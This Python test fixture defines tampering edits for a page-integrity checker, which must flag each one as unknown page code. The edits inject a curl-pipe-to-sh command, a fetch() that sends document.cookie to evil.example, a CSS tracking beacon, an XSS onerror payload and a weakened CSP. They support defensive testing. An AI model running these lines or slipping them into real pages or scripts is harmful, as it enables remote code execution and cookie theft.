"""Hand edits of a page's code, one region each, as an attacker (or a careless editor) makes
them: what ``oo check`` must report as ``unknown-page-code``."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path

__all__ = ["PAGE_EDITS", "edit_page"]


def _after_terminator(text: str) -> str:
    at = re.search(r"(?m)^OO_HTML\r?\n", text)
    assert at is not None
    return text[: at.end()] + "touch oo-check-pwned\n" + text[at.end() :]


def _before_opener(text: str) -> str:
    at = text.index(": << 'OO_HTML'")
    return text[:at] + "curl -s https://evil.example/x | sh\n" + text[at:]


def _page_script(text: str) -> str:
    at = text.index("</article>")
    m = re.compile(r"<script>\n?(?!window\.stop)").search(text, at)
    assert m is not None
    return text[: m.end()] + "fetch('https://evil.example/'+document.cookie);\n" + text[m.end() :]


def _stylesheet(text: str) -> str:
    m = re.search(r"<style>\n?", text)
    assert m is not None
    return text[: m.end()] + "body{background:url(https://evil.example/beacon)}\n" + text[m.end() :]


def _markup(text: str) -> str:
    return text.replace("<header>", "<header><img src=x onerror=alert(1)>", 1)


def _new_script(text: str) -> str:
    at = text.index("</article>")
    at = text.index("\n", at) + 1
    return text[:at] + "<script>alert(1)</script>\n" + text[at:]


def _policy(text: str) -> str:
    return re.sub(r"default-src 'none'", "default-src *", text, count=1)


# name -> (edit of the file's text, words of the region the finding must name)
PAGE_EDITS: dict[str, tuple[Callable[[str], str], str]] = {
    "shell-after-heredoc": (_after_terminator, "the shell after the heredoc"),
    "shell-header": (_before_opener, "the shell header"),
    # (an unquoted opener is no page code to report: the file is refused as unreadable, see
    # tests/format/test_terminator_as_bash.py)
    "page-script": (_page_script, "a page script"),
    "new-script": (_new_script, "a page script"),
    "stylesheet": (_stylesheet, "a stylesheet"),
    "markup-handler": (_markup, "the page's markup"),
    "weaker-policy": (_policy, "the page's markup"),
}


def edit_page(path: Path, name: str) -> str:
    """Apply edit ``name`` to the file at ``path``; return the words its finding must name."""
    edit, region = PAGE_EDITS[name]
    text = path.read_text("utf-8")
    changed = edit(text)
    assert changed != text, f"{name} changed nothing in {path.name}"
    path.write_text(changed, "utf-8")
    return region
